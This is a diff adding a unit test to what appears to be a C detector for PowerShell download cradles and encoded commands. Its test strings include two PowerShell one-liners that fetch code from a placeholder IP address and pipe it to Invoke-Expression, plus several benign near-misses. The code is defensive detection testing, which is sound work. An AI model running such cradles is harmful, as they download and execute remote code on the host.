@@ -251,6 +251,35 @@ static void test_benign_decoding(void **state)
 			      PS_I_SYMBOLS));
 }
 
+static void test_cradle_shapes(void **state)
+{
+	(void)state;
+	/* real cradles in other shapes */
+	decode_str("(iwr 'http://198.51.100.7/a' -UseBasicParsing).Content | iex");
+	assert_true(f.ind & PS_I_CRADLE);
+	decode_str("iex(irm http://198.51.100.7/a)");
+	assert_true(f.ind & PS_I_CRADLE);
+	/* a syntax highlighter's keyword list is not a cradle */
+	decode_str("keywords = ('Invoke-Expression', 'Invoke-History', 'Invoke-Item', "
+		   "'Invoke-RestMethod', 'Invoke-WebRequest', 'iex', 'iwr', 'curl')");
+	assert_false(f.ind & PS_I_CRADLE);
+	/* far apart: an IEX in one place, a download 2 KiB later */
+	{
+		char buf[4096];
+		memset(buf, 'x', sizeof buf);
+		memcpy(buf, "iex $a ", 7);
+		buf[7] = ' ';
+		memcpy(buf + 2500, " (New-Object Net.WebClient) ", 28);
+		buf[sizeof buf - 1] = '\0';
+		decode_str(buf);
+		assert_false(f.ind & PS_I_CRADLE);
+	}
+	/* "-e" followed by Base64 that is not UTF-16 text: no layer */
+	decode_str("sed -e aGVsbG8gd29ybGQgaGVsbG8= file");
+	assert_int_equal(r.nlayers, 1);
+	assert_false(f.ind & PS_I_ENCODED);
+}
+
 static void test_symbol_encoding(void **state)
 {
 	char buf[1024];
@@ -368,6 +397,7 @@ int main(void)
 		cmocka_unit_test(test_limits),
 		cmocka_unit_test(test_benign_decoding),
 		cmocka_unit_test(test_symbol_encoding),
+		cmocka_unit_test(test_cradle_shapes),
 		cmocka_unit_test(test_analyser),
 		cmocka_unit_test(test_wants),
 	};
